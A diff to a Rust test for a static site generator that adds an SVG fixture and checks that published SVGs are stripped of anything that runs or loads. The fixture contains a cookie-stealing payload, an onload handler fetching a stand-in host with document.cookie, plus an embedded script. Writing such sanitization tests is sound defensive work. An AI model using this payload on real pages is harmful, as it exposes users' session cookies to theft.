@@ -28,12 +28,16 @@ fn published() -> Site {
     site.write("content/guide/patio.jpg", photo_with_gps(2400, 1800));
     site.write("content/guide/mapa.png", png(300, 200));
     site.write(
+        "content/guide/icono.svg",
+        r#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4" onload="fetch('https://e.example/?'+document.cookie)"><script>alert(1)</script><circle r="2"/></svg>"#,
+    );
+    site.write(
         "content/guide/first.es.md",
         "+++\ntitle = \"Primera\"\n+++\n\n![La entrada del albergue](albergue.jpg)\n\nTexto.\n\n![El patio](patio.jpg)\n",
     );
     site.write(
         "content/guide/second.es.md",
-        "+++\ntitle = \"Segunda\"\n+++\n\n![Un mapa](mapa.png)\n\n[La lista](../forms/lista.txt)\n",
+        "+++\ntitle = \"Segunda\"\n+++\n\n![Un mapa](mapa.png)\n\n![Un teléfono](icono.svg)\n\n[La lista](../forms/lista.txt)\n",
     );
     for (rel, bytes) in stray_files() {
         site.write(rel, bytes);
@@ -141,8 +145,13 @@ fn photos_are_made_for_phones_and_no_output_file_tells_where_they_were_taken() {
     assert_eq!(attrs(&html, "picture img", "width"), vec!["720", "720"]);
     assert_eq!(attrs(&html, "picture img", "height"), vec!["1080", "960"]);
     assert_eq!(attrs(&html, "picture img", "loading"), vec!["lazy"]);
-    // Each image and its WebP: 3 images, 5 files (the drawing's WebP, no smaller, is not made
-    // or it is: either way the build counts what it published).
+    // An SVG is published as drawing only: nothing in it runs or loads.
+    let svg = site.read("media/guide/icono.svg");
+    assert!(svg.contains("<circle r=\"2\"/>"), "{svg}");
+    for gone in ["script", "onload", "fetch", "e.example"] {
+        assert!(!svg.contains(gone), "{gone} in {svg}");
+    }
+    // The build counts the files it published under media/.
     let media = files(&site.out().join("media"));
     assert_eq!(report.media_files, media.len(), "{media:?}");
 }
